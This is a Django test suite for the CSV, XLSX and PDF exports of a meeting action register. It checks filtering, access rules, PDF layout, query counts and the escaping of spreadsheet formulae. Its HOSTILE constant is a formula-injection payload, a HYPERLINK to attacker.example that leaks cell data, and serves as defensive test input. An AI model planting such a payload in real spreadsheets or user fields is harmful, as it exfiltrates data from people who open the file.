"""Exports of the register's current filter: /actions.csv, /actions.xlsx and /actions.pdf.

A spreadsheet must never run what someone typed: text that begins with = + - @
(or a tab or carriage return) is written with a leading quote.
"""

import csv
import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook
from pypdf import PdfReader

from actions.models import Action
from mappa.spreadsheets import safe_cell
from meetings.models import Meeting
from tests.actions.factories import ActionFactory, ActionUpdateFactory, register_world
from tests.factories import OrganisationFactory, PersonFactory
from tests.meetings.factories import AgendaItemFactory, MeetingFactory

pytestmark = pytest.mark.django_db

MONDAY_20_NOVEMBER_2017 = datetime(2017, 11, 20, 10, 0, tzinfo=ZoneInfo("Europe/London"))
HOSTILE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the plan")'


@pytest.fixture
def world(db):
    with time_machine.travel(MONDAY_20_NOVEMBER_2017, tick=False):
        yield register_world()


@pytest.fixture
def signed_in(client, member_user, world):
    client.force_login(member_user)
    return client


def _csv_rows(response):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def _xlsx_rows(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row)) for row in rows[1:]], sheet


def _pdf_text(response):
    assert response["Content-Type"] == "application/pdf"
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)


# --- The one escaping function --------------------------------------------------------------------


@pytest.mark.parametrize("typed", [HOSTILE, "+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=", "+"])
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(typed):
    assert safe_cell(typed) == "'" + typed


@pytest.mark.parametrize(
    "value", ["Circulate the plan.", "SG; RMA", "", " =not first", "'quoted", "1+1", 42, -3, None, date(2017, 11, 30)]
)
def test_everything_else_is_left_as_it_is(value):
    assert safe_cell(value) == value


# --- CSV ------------------------------------------------------------------------------------------


def test_the_csv_holds_the_rows_of_the_current_filter(signed_in, world):
    with time_machine.travel(MONDAY_20_NOVEMBER_2017, tick=False):
        response = signed_in.get("/actions.csv", {"owner": f"organisation-{world.sg.pk}", "sort": "due"})

    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="actions-2017-11-20.csv"'
    rows = _csv_rows(response)
    assert [row["Action"] for row in rows] == ["Action 4 from 31 May 2017 meeting", "Action 1 from 31 May 2017 meeting"]
    overdue = rows[1]
    assert overdue["Group"] == "NSG"
    assert overdue["Item"] == "1 MAPPA: Thematic Inspection Action Plan"
    assert overdue["Owners"] == "SG"
    assert (overdue["Due date"], overdue["Status"], overdue["Overdue"]) == ("2017-11-15", "Open", "Yes")
    assert overdue["Link"].endswith(f"/actions/{world.nsg_overdue.pk}/")


def test_the_csv_escapes_formulae_in_what_people_typed(signed_in, world):
    ActionFactory(
        meeting=world.nsg_may,
        agenda_item=world.nsg_item,
        number=9,
        text=HOSTILE,
        owners=[PersonFactory(name="+44 131 244 0000")],
    )
    ActionUpdateFactory(action=world.nsg_overdue, text="-1 day left", author=world.nsg_overdue.created_by)

    rows = {row["Action"]: row for row in _csv_rows(signed_in.get("/actions.csv"))}

    hostile = rows["Action 9 from 31 May 2017 meeting"]
    assert hostile["Text"] == "'" + HOSTILE
    assert hostile["Text"].startswith("'=HYPERLINK")
    assert hostile["Owners"] == "'+44 131 244 0000"
    assert rows["Action 1 from 31 May 2017 meeting"]["Latest update"] == "'-1 day left"


def test_the_inspector_exports_only_what_they_may_read(client, inspector_user, world):
    draft = MeetingFactory(body=world.nsg, date=date(2017, 11, 8), status=Meeting.Status.DRAFT_CIRCULATED)
    ActionFactory(meeting=draft, number=1, text="From a draft minute.", owners=[world.rma])
    client.force_login(inspector_user)

    rows = _csv_rows(client.get("/actions.csv"))

    assert len(rows) == 5
    assert "From a draft minute." not in {row["Text"] for row in rows}


# --- XLSX -----------------------------------------------------------------------------------------


def test_the_xlsx_holds_the_filtered_rows_with_dates_as_dates_and_formulae_as_text(signed_in, world):
    ActionFactory(
        meeting=world.nsg_may,
        agenda_item=world.nsg_item,
        number=9,
        text="+1 more ERA case",
        due_date=date(2017, 11, 28),
        owners=[world.rma],
    )
    ActionFactory(
        meeting=world.nsg_may,
        agenda_item=world.nsg_item,
        number=10,
        text=HOSTILE,
        due_date=date(2017, 11, 29),
        owners=[world.rma],
    )

    response = signed_in.get("/actions.xlsx", {"owner": f"organisation-{world.rma.pk}", "sort": "due"})

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    rows, sheet = _xlsx_rows(response)
    assert [row["Action"] for row in rows] == [
        "Action 2 from 31 May 2017 meeting",
        "Action 9 from 31 May 2017 meeting",
        "Action 10 from 31 May 2017 meeting",
    ]
    assert rows[1]["Text"] == "'+1 more ERA case"
    assert rows[2]["Text"].startswith("'=HYPERLINK")
    assert rows[0]["Due date"] == datetime(2017, 11, 24)
    # No cell of the sheet is a formula.
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_the_xlsx_survives_control_characters(signed_in, world):
    ActionFactory(
        meeting=world.nsg_may,
        agenda_item=world.nsg_item,
        number=9,
        text="Bell\x07 and form\x0cfeed",
        owners=[world.rma],
    )
    rows, _ = _xlsx_rows(signed_in.get("/actions.xlsx", {"q": "Bell"}))
    assert rows[0]["Text"] == "Bell and formfeed"


# --- PDF ------------------------------------------------------------------------------------------


def test_the_pdf_lists_open_actions_under_each_owner(signed_in, world):
    world.nsg_soon.owner_organisations.add(world.sg)  # two owners: listed under both

    with time_machine.travel(MONDAY_20_NOVEMBER_2017, tick=False):
        response = signed_in.get("/actions.pdf")

    assert response.status_code == 200
    text = _pdf_text(response)
    lines = [line.strip() for line in text.splitlines()]
    for owner in ("All Fife Strategic Oversight Group members", "RMA", "SG", "Jo Policy"):
        assert owner in lines, f"{owner!r} is not a heading of the PDF"
    assert (
        lines.index("All Fife Strategic Oversight Group members")
        < lines.index("RMA")
        < lines.index("SG")
        < lines.index("Jo Policy")
    )
    # Under SG: its open action and the shared one; not its completed one.
    under_sg = " ".join(text[text.index("\nSG\n") : text.index("Jo Policy")].split())
    assert "Circulate the updated thematic inspection action plan." in under_sg
    assert "Present the research plan on internet offenders." in under_sg
    assert "Reconvene the ERA" not in text
    assert "4 open actions" in text


def test_the_pdf_follows_the_filter(signed_in, world):
    response = signed_in.get("/actions.pdf", {"body": world.fife_sog.slug})

    text = " ".join(_pdf_text(response).split())
    assert "Share the learning from the Fife ICR" in text
    assert "Circulate the updated thematic" not in text
    assert "Actions of the Fife Strategic Oversight Group. 1 open action" in text


def test_the_pdf_says_what_it_holds_in_a_sentence(signed_in, world):
    with time_machine.travel(MONDAY_20_NOVEMBER_2017, tick=False):
        overdue = " ".join(_pdf_text(signed_in.get("/actions.pdf", {"overdue": "yes"})).split())
        several = " ".join(
            _pdf_text(
                signed_in.get(
                    "/actions.pdf", {"overdue": "yes", "body": world.nsg.slug, "status": ["open", "in_progress"]}
                )
            ).split()
        )
        everything = " ".join(_pdf_text(signed_in.get("/actions.pdf")).split())

    assert "Overdue actions only." in overdue and "Overdue:" not in overdue
    assert f"Overdue actions of the {world.nsg.name}, with status Open or In progress." in several
    assert "All actions." in everything


def test_a_long_pdf_repeats_its_header_row_and_never_splits_a_row(signed_in, world):
    meeting = MeetingFactory(body=world.nsg, date=date(2017, 2, 16), status=Meeting.Status.MINUTES_AGREED)
    owner = OrganisationFactory(name="Long List Authority", short_name="LLA")
    for number in range(1, 41):
        ActionFactory(
            meeting=meeting,
            number=number,
            text=f"Row {number} begins here. "
            + "Work through the standards with each area. " * 8
            + f"Row {number} ends.",
            due_date=date(2017, 12, 20),
            owners=[owner],
        )

    with time_machine.travel(MONDAY_20_NOVEMBER_2017, tick=False):
        response = signed_in.get("/actions.pdf", {"owner": f"organisation-{owner.pk}"})

    pages = [" ".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(response.content)).pages]
    assert len(pages) > 3
    for page in pages:
        assert "Action What is to be done Due Status" in page  # the header row, on every page
    for number in range(1, 41):
        # Each row's beginning and end are on the same page.
        begins = [i for i, page in enumerate(pages) if f"Row {number} begins here." in page]
        ends = [i for i, page in enumerate(pages) if f"Row {number} ends." in page]
        assert begins == ends and len(begins) == 1, (number, begins, ends)


# --- Bounded queries ------------------------------------------------------------------------------


def _more_actions(world, count):
    meeting = MeetingFactory(body=world.nsg, date=date(2017, 2, 16), status=Meeting.Status.MINUTES_AGREED)
    items = [AgendaItemFactory(meeting=meeting) for _ in range(3)]
    organisations = [OrganisationFactory() for _ in range(4)]
    people = [PersonFactory() for _ in range(4)]
    for number in range(1, count + 1):
        action = ActionFactory(
            meeting=meeting,
            agenda_item=items[number % 3],
            number=number,
            due_date=date(2017, 12, 1 + number % 28),
            owners=[organisations[number % 4], people[number % 4]],
        )
        ActionUpdateFactory(action=action, author=action.created_by)


@pytest.mark.parametrize("url", ["/actions.csv", "/actions.xlsx", "/actions.pdf"])
def test_an_export_takes_the_same_number_of_queries_for_many_actions_as_for_few(
    signed_in, world, url, django_assert_max_num_queries
):
    signed_in.get(url)
    with CaptureQueriesContext(connection) as few:
        signed_in.get(url, {"sort": "owner"})

    _more_actions(world, 60)
    assert Action.objects.count() == 65

    with django_assert_max_num_queries(len(few)):
        response = signed_in.get(url, {"sort": "owner"})
    assert response.status_code == 200
